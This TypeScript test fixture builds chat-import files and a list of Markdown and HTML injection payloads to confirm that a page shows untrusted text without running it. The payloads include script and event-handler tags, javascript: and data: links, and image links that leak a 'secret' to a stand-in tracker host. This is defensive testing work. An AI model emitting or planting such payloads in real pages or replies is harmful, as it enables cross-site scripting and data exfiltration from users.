/** Files for `import`, made here, and texts that a page must show without obeying them. Reads the shared list where it exists. */
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';

type ImportMessage =
  | { role: 'user'; content: string }
  | {
      role: 'assistant';
      content: string | null;
      tool_calls?: { id: string; type: 'function'; function: { name: string; arguments: string } }[];
    }
  | { role: 'tool'; tool_call_id: string; content: string };

/** One line of an import file. */
export function importLine(messages: readonly ImportMessage[]): string {
  return `${JSON.stringify({ messages })}\n`;
}

/** Turns of four messages: a question, a call, its result, an answer. Every third turn is about order 1043, the others about 1042. */
export function toolConversation(turns: number): ImportMessage[] {
  return Array.from({ length: turns }, (_, index): ImportMessage[] => {
    const order = index % 3 === 2 ? 1043 : 1042;
    const id = `call_${index + 1}`;
    const call = { id, type: 'function' as const, function: { name: 'get_order', arguments: JSON.stringify({ order_id: order }) } };
    return [
      { role: 'user', content: `Question ${index + 1}: where is my order #${order}?` },
      { role: 'assistant', content: null, tool_calls: [call] },
      { role: 'tool', tool_call_id: id, content: JSON.stringify({ order_id: order, status: 'delivered' }) },
      { role: 'assistant', content: `Answer ${index + 1}: order #${order} was delivered.` },
    ];
  }).flat();
}

/** Each would load or run something in a page that trusts Markdown. */
const OWN_PAYLOADS = [
  '![pixel](https://tracker.invalid/a.png?d=secret)',
  '[![nested](https://tracker.invalid/b.png)](https://tracker.invalid/c)',
  '<img src="https://tracker.invalid/d.png" onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><image href="https://tracker.invalid/e.png"/></svg>',
  '<script>window.hacked = 1</script>',
  '<iframe src="https://tracker.invalid/f"></iframe>',
  '<style>body { background: url(https://tracker.invalid/g.png) }</style>',
  '<link rel="stylesheet" href="https://tracker.invalid/h.css"><base href="https://tracker.invalid/">',
  '<form action="https://tracker.invalid/i"><input autofocus onfocus="window.hacked = 1"></form>',
  '<meta http-equiv="refresh" content="0; url=https://tracker.invalid/j">',
  '[run](javascript:window.hacked=1)',
  '[run](data:text/html,<script>opener.hacked=1</script>)',
  '[run](  java\u0000script:window.hacked=1)',
  '<a href="https://tracker.invalid/k" ping="https://tracker.invalid/l">link</a>',
  '<video autoplay src="https://tracker.invalid/m.mp4" onerror="window.hacked = 1"></video>',
  '<details open ontoggle="window.hacked = 1">x</details>',
  '```html\n<script>window.hacked = 1</script>\n```',
  '| a | b |\n| - | - |\n| ![x](https://tracker.invalid/n.png) | <img src=x onerror=window.hacked=1> |',
];

/** Our own list and, where the folder lies beside the project, the shared one. */
export function hostileTexts(project: string): string[] {
  const shared = path.join(project, '../shared/cases/markdown-payloads.json');
  if (!existsSync(shared)) return OWN_PAYLOADS;
  const { payloads } = JSON.parse(readFileSync(shared, 'utf8')) as { payloads: { text: string }[] };
  return [...OWN_PAYLOADS, ...payloads.map((payload) => payload.text)];
}

/** A conversation in which customer, tool and model all say each text. */
export function hostileConversation(texts: readonly string[]): ImportMessage[] {
  return texts.flatMap((text, index): ImportMessage[] => {
    const id = `call_${index + 1}`;
    const call = { id, type: 'function' as const, function: { name: 'search_help_center', arguments: JSON.stringify({ query: text }) } };
    return [
      { role: 'user', content: text },
      { role: 'assistant', content: null, tool_calls: [call] },
      { role: 'tool', tool_call_id: id, content: text },
      { role: 'assistant', content: text },
    ];
  });
}
